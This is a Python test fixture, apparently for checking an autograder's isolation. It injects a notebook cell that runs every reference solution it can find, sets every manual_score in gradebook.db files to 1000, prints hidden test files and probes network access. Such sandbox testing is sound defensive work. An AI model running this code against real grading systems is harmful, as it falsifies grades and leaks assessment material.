"""Reads solutions, tests and the gradebook at grading time, rewrites grades, calls out to the network."""
EXPECT_TOTAL = 0
BASE = "release"
ATTACK = r'''
import glob, json, os, sqlite3, socket
_found = []
_roots = set()
_here = os.path.abspath(os.getcwd())
while True:
    _roots.add(_here)
    if _here == "/":
        break
    _here = os.path.dirname(_here)
_roots.update(["/work", "/work/main", "/root", "/home", "/srv", "/tmp", "/opt"])
for _r in sorted(_roots):
    for _pat in ("source/*/*.ipynb", "*/source/*/*.ipynb", "*/*/source/*/*.ipynb"):
        _found += glob.glob(os.path.join(_r, _pat))
for _path in _found:  # run every reference solution we can find
    try:
        for _cell in json.load(open(_path))["cells"]:
            if _cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
                exec("".join(_cell["source"]), globals())
    except Exception:
        pass
for _r in sorted(_roots):  # give everyone full marks
    for _db in [p for d in ("", "*", "*/*", "*/*/*") for p in glob.glob(os.path.join(_r, d, "gradebook.db"))][:5]:
        try:
            _c = sqlite3.connect(_db)
            _c.execute("UPDATE grade SET manual_score = 1000")
            _c.commit()
        except Exception:
            pass
for _r in sorted(_roots):  # read hidden tests
    for _t in glob.glob(os.path.join(_r, "tests", "*", "test_*.py"))[:3]:
        print(open(_t).read()[:200])
try:
    socket.create_connection(("1.1.1.1", 80), timeout=3).close()
    print("NETWORK REACHABLE")
except OSError as _e:
    print("network blocked:", _e)
'''
def mutate(nb):
    import nbformat
    nb.cells.insert(2, nbformat.v4.new_code_cell(ATTACK))
    nb.cells.append(nbformat.v4.new_code_cell(ATTACK))
